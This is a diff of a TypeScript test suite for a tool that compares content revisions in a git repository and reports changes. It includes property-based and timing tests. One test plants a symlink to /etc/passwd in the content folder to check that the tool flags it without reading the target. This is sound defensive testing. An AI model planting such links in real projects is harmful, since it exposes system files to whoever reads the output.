-  const stateOf = (text: string | undefined, mode = '100644'): FileState | undefined =>
-    text === undefined ? undefined : { text, mode };
-  const changes = Object.entries(edits).flatMap(([path, edit]): FileChange[] => {
-    const { from, text, mode } =
-      typeof edit === 'object' ? edit : { text: typeof edit === 'function' ? edit(BASE[path] ?? '') : edit };
-    return text === BASE[path] ? [] : [{ path, from, before: stateOf(BASE[from ?? path]), after: stateOf(text, mode) }];
+let folder: string;
+
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), 'cases-'));
+  startRepository(folder);
+  commit(folder, '2026-11-20T12:00:00Z', BASE);
+});
+
+afterAll(() => rmSync(folder, { recursive: true }));
+
+/** The report of the small guide in a working tree with these edits, each line after its heading. */
+async function reportedAfter(edits: Edits, makeMore = () => undefined): Promise<string[]> {
+  git(folder, ['reset', '--quiet', '--hard']);
+  git(folder, ['clean', '--quiet', '-fd']);
+  for (const [path, edit] of Object.entries(edits)) {
+    const text = typeof edit === 'function' ? edit(BASE[path] ?? '') : edit;
+    if (text === undefined) rmSync(join(folder, path));
+    else writeFiles(folder, { [path]: text });
+  }
+  makeMore();
+  git(folder, ['add', '--all']);
+  const report = reportOf(compare(await readRevisions(folder, { base: 'main', head: undefined })));
+  let heading = 'Top';
+  return report.split('\n').map((line) => {
+    heading = /^### (?<heading>[^(]+?)(?: \(\d+\))?$/.exec(line)?.groups?.heading ?? heading;
+    return `${heading}: ${line}`;
   });
-  const base = new Map(Object.entries(BASE).filter(([path]) => /^src\/(content|data)\//.test(path)));
-  const revisions: Revisions = {
-    code: { name: 'main', changed: [] },
-    base: { name: 'main', commit: '', files: base },
-    head: { name: 'edit', commit: '', files: withChanges(base, changes) },
-    changes,
-    commitsSince: 0,
-  };
-  return { changes, comparison: compare(revisions, TODAY) };
 }
 
-test.each(CASES.map(([edits, ...expected]) => ({ title: expected.join('; '), edits, expected })))(
-  '$title',
-  ({ edits, expected }) => {
-    let heading = 'Top';
-    const lines = reportOf(compareWith(edits).comparison)
-      .split('\n')
-      .map((line) => {
-        heading = /^### (?<heading>.+)/.exec(line)?.groups?.heading ?? heading;
-        return `${heading}: ${line}`;
-      });
-    for (const text of expected) {
-      if (text.startsWith('no ')) {
-        for (const absent of text.slice('no '.length).split(', '))
-          expect(lines).not.toContain(`${absent}: ### ${absent}`);
-      } else {
-        const pattern = text.replace(': ', ': …').split('…').map(RegExp.escape).join('.*');
-        expect(lines).toContainEqual(expect.stringMatching(new RegExp(`^${pattern}`)));
-      }
+/** A pattern for a line that contains these texts in this order, after its heading. */
+const lineWith = (heading: string, text: string) =>
+  expect.stringMatching(new RegExp(`^${heading}: .*${text.split('…').map(RegExp.escape).join('.*')}`, 'u')) as unknown;
+
+test.each(LOOK_TWICE.map(([name, edits, ...lines]) => ({ name, edits, lines })))(
+  'look twice at $name',
+  async ({ edits, lines }) => {
+    const report = await reportedAfter(edits);
+    for (const line of lines) expect(report).toContainEqual(lineWith('Look twice', line));
+  },
+);
+
+test.each(REPORTED.map(([name, edits, ...lines]) => ({ name, edits, lines })))(
+  'the report tells $name',
+  async ({ edits, lines }) => {
+    const report = await reportedAfter(edits);
+    for (const line of lines) {
+      const [heading = '', ...text] = line.split(': ');
+      expect(report).toContainEqual(lineWith(heading, text.join(': ')));
     }
   },
 );
 
-test('whatever changes, the report names every changed file, and never says that nothing differs', () => {
+test('another way of writing a telephone number is nothing to look at twice', async () => {
+  const edits = { [TERMS]: (text: string) => `${text}\nCall 1-888-495-8501.\n` };
+  await reportedAfter(edits);
+  git(folder, ['commit', '--quiet', '--all', '--message=Edit']);
+  const report = await reportedAfter({
+    [TERMS]: (text) => edits[TERMS](text).replace('1-888-495-8501', '(888) 495 8501'),
+  });
+  git(folder, ['reset', '--quiet', '--hard', 'HEAD~1']);
+  expect(report).not.toContainEqual(lineWith('Look twice', '**telephone number'));
+});
+
+test('what a link in the content leads to is not read', async () => {
+  const path = 'src/content/pages/secret.mdx';
+  const report = await reportedAfter({}, () => {
+    mkdirSync(dirname(join(folder, path)), { recursive: true });
+    symlinkSync('/etc/passwd', join(folder, path));
+    return undefined;
+  });
+  expect(report).toContainEqual(lineWith('Look twice', `\`${path}\` is a link`));
+  expect(report.join('\n')).not.toContain('/etc/passwd');
+});
+
+/** Compares the small guide with other texts of its files, as git would read them. */
+function compareWith(edits: Readonly<Record<string, string | undefined>>) {
+  const changes = Object.entries(edits).flatMap(([path, text]): FileChange[] => {
+    const status = text === undefined ? 'removed' : BASE[path] === undefined ? 'added' : 'changed';
+    return text === BASE[path] ? [] : [{ path, status, isIrregular: false }];
+  });
+  const filesOf = (texts: Readonly<Record<string, string | undefined>>) =>
+    new Map(
+      Object.entries(texts).flatMap(([path, text]) => (text !== undefined && isContent(path) ? [[path, text]] : [])),
+    );
+  const comparison = compare({
+    code: { name: 'main', changed: [] },
+    base: { name: 'main', files: filesOf(BASE) },
+    head: { name: 'edit', files: filesOf({ ...BASE, ...edits }) },
+    changes,
+    commitsSince: 0,
+  });
+  return { changes, comparison };
+}
+
+describe('whatever changes', () => {
   const anyPath = fc.oneof(
-    fc.constantFrom(
-      ...GUIDE_TEXTS.keys(),
-      'package.json',
-      'package-lock.json',
-      '.github/workflows/a.yml',
-      LAYOUT,
-      'public/a.js',
-    ),
+    fc.constantFrom(...GUIDE_TEXTS.keys(), 'package.json', '.github/workflows/a.yml', 'public/a.js'),
     fc.stringMatching(/^(src\/(content|data)\/)?[a-z.]{1,8}(\/[a-z]{1,5}){0,2}(\.mdx|\.yaml|\.ts)?$/),
   );
   const anyText = fc.oneof(
@@ -473,24 +476,57 @@ test('whatever changes, the report names every changed file, and never says that
     fc.constant(undefined),
   );
   const anyEdit = fc.record({ path: anyPath, insert: anyText, at: fc.nat(3000), cut: fc.nat(40) });
-  fc.assert(
-    fc.property(fc.uniqueArray(anyEdit, { selector: ({ path }) => path, maxLength: 4 }), (inserts) => {
-      const edits = inserts.map(({ path, insert, at, cut }): [string, string | undefined] => {
-        const before = BASE[path] ?? '';
-        return [path, insert === undefined ? undefined : before.slice(0, at) + insert + before.slice(at + cut)];
-      });
-      const { changes, comparison } = compareWith(Object.fromEntries(edits));
-      const { facts, scores, texts, sources, pages, areas, dangers, notes } = comparison;
-      const moved = pages.flatMap(({ from, to }) => to ?? from ?? []);
-      const files = [...facts, ...scores, ...texts, ...sources, ...moved].map(({ file }) => file);
-      const named = new Set([...files, ...[...areas, ...dangers].flatMap((group) => group.files)]);
-      for (const { path } of changes)
-        expect(named.has(path) || notes.some((note) => note.startsWith(`${path} `))).toBe(true);
-      const report = reportOf(comparison);
-      expect(report.includes('Nothing differs.')).toBe(changes.length === 0);
-      if (changes.length > 0) expect(report.split('\n').length).toBeGreaterThan(2);
-      expect(Buffer.byteLength(report)).toBeLessThan(65_536);
-    }),
-    { numRuns: 60 },
-  );
+
+  test('the report names every changed file, and never says that nothing differs', () => {
+    fc.assert(
+      fc.property(fc.uniqueArray(anyEdit, { selector: ({ path }) => path, maxLength: 4 }), (inserts) => {
+        const edits = inserts.map(({ path, insert, at, cut }): [string, string | undefined] => {
+          const before = BASE[path] ?? '';
+          return [path, insert === undefined ? undefined : before.slice(0, at) + insert + before.slice(at + cut)];
+        });
+        const { changes, comparison } = compareWith(Object.fromEntries(edits));
+        const { code, contacts, facts, scores, texts, sources, pages, sameMeaning, notes } = comparison;
+        const moved = pages.flatMap(({ from, to }) => to ?? from ?? []);
+        const files = [...facts, ...scores, ...texts, ...sources, ...moved].map(({ file }) => file);
+        const named = new Set([
+          ...[...files, ...sameMeaning, ...contacts.flatMap((contact) => contact.files)],
+          ...code.map(({ path }) => path),
+        ]);
+        for (const { path } of changes)
+          expect(named.has(path) || notes.some((note) => note.startsWith(`${path} `))).toBe(true);
+        const report = reportOf(comparison);
+        expect(report.includes('Nothing differs.')).toBe(changes.length === 0);
+        expect(Buffer.byteLength(report)).toBeLessThan(65_536);
+      }),
+      // A busy machine tries fewer: the time is the limit, and reaching it is no failure.
+      { numRuns: 30, interruptAfterTimeLimit: 10_000 },
+    );
+  });
+});
+
+describe('a change that nobody can read says so at its top, and within seconds', () => {
+  const CUT = /\n\n\*\*Do not merge on this report, it is cut: [\d,]+ (lines did not fit|files? of content went past)/;
+
+  test.each([
+    ['50,000 addresses', () => ({ [SAVINGS]: `${BASE[SAVINGS] ?? ''}${lines(50_000)}` })],
+    [
+      '3,000 records',
+      () => Object.fromEntries(each(3000).map((at) => [`src/content/banks/b${at}.mdx`, another(`B${at}`)])),
+    ],
+    [
+      'more content than is compared',
+      () => Object.fromEntries(each(200).map((at) => [`src/content/guides/g${at}.mdx`, lines(1500)])),
+    ],
+    ['3,000 files of code', () => Object.fromEntries(each(3000).map((at) => [`src/view/code/${at}.ts`, '']))],
+  ])('%s', (_, edits) => {
+    const started = performance.now();
+    expect(reportOf(compareWith(edits()).comparison)).toMatch(CUT);
+    expect(performance.now() - started).toBeLessThan(30_000);
+  });
+
+  const each = (count: number) => Array.from({ length: count }, (_, at) => at);
+  const lines = (count: number) =>
+    each(count)
+      .map((at) => `- See [it](https://h${at}.example/).\n`)
+      .join('');
 });
